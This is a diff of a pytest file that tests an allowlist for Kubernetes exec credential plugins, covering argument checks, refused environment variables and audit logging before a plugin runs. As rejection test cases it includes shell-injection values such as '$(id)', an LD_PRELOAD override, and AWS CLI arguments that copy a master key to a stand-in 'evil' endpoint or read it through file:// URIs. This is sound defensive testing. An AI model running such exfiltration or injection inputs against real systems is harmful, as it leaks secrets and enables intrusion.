@@ -18,8 +18,9 @@ from typing import Any
 import pytest
 from aiohttp import web
 from asgiref.sync import sync_to_async
+from django.db import DatabaseError
 
-from clusters import audit
+from clusters import audit, exec_plugins
 from clusters.access import Actor, Granted
 from clusters.carrying_out import recorded
 from clusters.connect import cluster as connecting
@@ -37,7 +38,7 @@ from clusters.drivers.kubernetes.sources import source_of
 from clusters.errors import ClusterError, Invalid, Refused, Unreachable, Unsupported
 from clusters.fields import NotFilledIn
 from clusters.kinds.base import Role
-from clusters.models import Cluster
+from clusters.models import AuditEntry, Cluster
 from tests.clusters.test_kubeconfig import config
 
 ADA = Actor(1, "ada", (Granted(Role.ADMIN),))
@@ -138,11 +139,11 @@ Make = Callable[..., Plugin]
 def make(tmp_path: Path, settings: Any) -> Make:
     """A program of ours that is in the administrator's list."""
 
-    def made(code: str, **entry: Any) -> Plugin:
+    def made(code: str, allows: str = "", **entry: Any) -> Plugin:
         path = tmp_path / "signs-in"
         path.write_text(f"#!{sys.executable}\nimport json, os, sys, time\n" + textwrap.dedent(code))
         path.chmod(0o700)
-        settings.EXEC_PLUGINS = [str(path)]
+        settings.EXEC_PLUGINS = exec_plugins.read(f"{path} {allows}")
         return Plugin.of({"command": "signs-in", "apiVersion": V1, **entry})
 
     return made
@@ -158,12 +159,12 @@ async def test_a_program_gives_a_token_and_sees_nothing_of_ours(make: Make, monk
         '{"token": json.dumps([sys.argv[1:], sorted(os.environ), json.loads(os.environ["KUBERNETES_EXEC_INFO"]),'
         ' sys.stdin.read(), os.getcwd()], separators=(",", ":")), "expirationTimestamp": "2099-01-01T00:00:00Z"}'
     )
-    found = await make(
-        code, args=["$(id)", ";id"], env=[{"name": "AWS_PROFILE", "value": "prod"}], provideClusterInfo=True
-    ).run({"server": "https://10.0.0.1"})
+    found = await make(code, "get token [--of]", args=["--of", "$(id)", "get", "token"], provideClusterInfo=True).run(
+        {"server": "https://10.0.0.1"}
+    )
     arguments, names, info, typed, folder = json.loads(found.token)
-    assert (arguments, typed, folder) == (["$(id)", ";id"], "", "/")
-    assert set(names) <= {"PATH", "HOME", "LANG", "LC_CTYPE", "AWS_PROFILE", "KUBERNETES_EXEC_INFO"}
+    assert (arguments, typed, folder) == (["get", "token", "--of", "$(id)"], "", "/")
+    assert set(names) <= {"PATH", "HOME", "LANG", "LC_CTYPE", "KUBERNETES_EXEC_INFO"}
     assert info["spec"] == {"interactive": False, "cluster": {"server": "https://10.0.0.1"}}
     assert found.ends == 4070908800
 
@@ -210,9 +211,10 @@ async def test_a_program_that_takes_too_long_is_ended_with_all_that_it_began(
         ({"command": "../signs-in"}, "“exec” is not allowed"),
         ({"command": "/bin/sh"}, "“exec” is not allowed"),
         ({"command": ""}, "“exec” is not allowed"),
-        ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "sets the variable LD_PRELOAD"),
-        ({"env": [{"name": "AWS_PROFILE"}]}, "not in the right form"),
-        ({"env": "AWS_PROFILE=x"}, "not in the right form"),
+        ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "sets variables, which is not allowed"),
+        ({"env": [{"name": "AWS_PROFILE", "value": "prod"}]}, "sets variables, which is not allowed"),
+        ({"env": "AWS_PROFILE=x"}, "sets variables, which is not allowed"),
+        ({"args": ["--help"]}, "“exec” is not allowed: it would run “"),
         ({"args": "-c id"}, "not a list"),
         ({"args": [1]}, "not text"),
         ({"apiVersion": "client.authentication.k8s.io/v1alpha1"}, "apiVersion that is not known"),
@@ -228,9 +230,88 @@ def test_only_listed_programs_with_harmless_settings_are_taken(make: Make, entry
 
 async def test_a_program_that_was_taken_off_the_list_is_not_run_any_more(make: Make, settings: Any) -> None:
     one = make(SAYS % '{"token": "t"}')
-    settings.EXEC_PLUGINS = []
+    settings.EXEC_PLUGINS = ()
     with pytest.raises(Invalid, match="is not allowed"):
         await one.run({})
+
+
+AWS = "/usr/local/bin/aws eks get-token [--cluster-name --region --role-arn --output]"
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        "eks get-token --cluster-name shop",
+        "--region eu-west-1 eks get-token --cluster-name shop --output json",  # as its own program writes kubeconfigs
+        "eks get-token --cluster-name=shop --role-arn arn:aws:iam::1:role/x",
+    ],
+)
+def test_an_entry_of_the_list_allows_its_words_and_its_options_with_values(given: str) -> None:
+    path, arguments = exec_plugins.allowed(exec_plugins.read(AWS), "aws", given.split())
+    assert path == "/usr/local/bin/aws"
+    assert arguments[:2] == ("eks", "get-token")
+    assert sorted(arguments) == sorted(given.split())
+    assert exec_plugins.allowed(exec_plugins.read(AWS), path, arguments) == (path, arguments)  # as it is stored
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        ["s3", "cp", "/data/master-key", "s3://evil/x", "--endpoint-url", "https://evil"],
+        ["eks", "get-token", "--endpoint-url", "https://evil"],
+        ["eks", "get-token", "--cluster-name", "shop", "--endpoint-url=https://evil"],
+        ["eks", "get-token", "--cluster-name"],
+        ["eks", "get-token", "--cluster-name", "--debug"],
+        ["eks", "get-token", "--cluster-name=-x"],
+        ["eks", "get-token", "--cluster-name", "a\nb"],
+        ["eks", "get-token", "--role-arn", "file:///data/master-key"],
+        ["eks", "get-token", "--role-arn", "@/data/master-key"],
+        ["eks", "get-token", "--region", "a", "--region", "b"],
+        ["eks", "get-token", "more"],
+        ["get-token", "eks"],
+        ["eks"],
+        [],
+    ],
+)
+def test_no_other_arguments_get_to_a_listed_program(given: list[str]) -> None:
+    with pytest.raises(Invalid, match="“exec”"):
+        exec_plugins.allowed(exec_plugins.read(AWS), "aws", given)
+
+
+@pytest.mark.parametrize(
+    "text", ["aws", "/bin/a:/bin/b", "/bin/a [--x", "/bin/a [x]", "/bin/a [--x=1]", "/bin/a 'b", "[--x]"]
+)
+def test_a_list_that_is_written_wrongly_is_refused_as_a_whole(text: str) -> None:
+    with pytest.raises(ValueError, match=r"\w"):
+        exec_plugins.read(f"/bin/good, {text}")
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_who_has_a_program_run_is_written_down_before_it_runs(
+    make: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """By the test of a connection already; and nothing is run where that cannot be written."""
+    ran = tmp_path / "ran"
+    one = make(f"open({str(ran)!r}, 'w')\nsys.exit(3)", "sign-in [--as]", args=["sign-in", "--as", "two words"])
+    to = connecting.Reach("kubernetes", {"server": "https://127.0.0.1:1", "exec": one.stored(), "context": "shop"}, {})
+    with monkeypatch.context() as broken:
+        broken.setattr(audit, "_append_alone", fails)
+        with pytest.raises(audit.Unrecorded):
+            await connecting.test(to, ADA, None)
+    assert not ran.exists()
+    with pytest.raises(Refused, match="failed"):
+        await connecting.test(to, ADA, None)
+    assert ran.exists()
+    rows = [row async for row in AuditEntry.objects.order_by("id")]
+    assert [(row.actor, row.verb, row.name, row.stage, row.result) for row in rows] == [
+        ("ada", "run to sign in", "shop", "intent", ""),
+        ("ada", "run to sign in", "shop", "outcome", "failed"),
+    ]
+    assert rows[0].detail == {"command": f"{one.path} sign-in --as 'two words'", "server": "https://127.0.0.1:1"}
+
+
+def fails(*arguments: object) -> None:
+    raise DatabaseError("the disk is full")
 
 
 def test_by_default_no_program_is_listed() -> None:
